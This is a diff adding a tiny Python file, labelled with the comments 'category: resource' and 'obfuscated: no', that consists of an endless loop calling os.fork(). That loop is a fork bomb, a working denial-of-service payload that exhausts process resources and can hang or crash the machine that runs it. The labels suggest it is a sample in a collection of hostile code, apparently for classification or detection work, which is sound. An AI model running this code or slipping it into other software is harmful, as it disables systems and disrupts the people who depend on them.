@@ -1,0 +1,5 @@
+# category: resource
+# obfuscated: no
+import os
+while True:
+    os.fork()
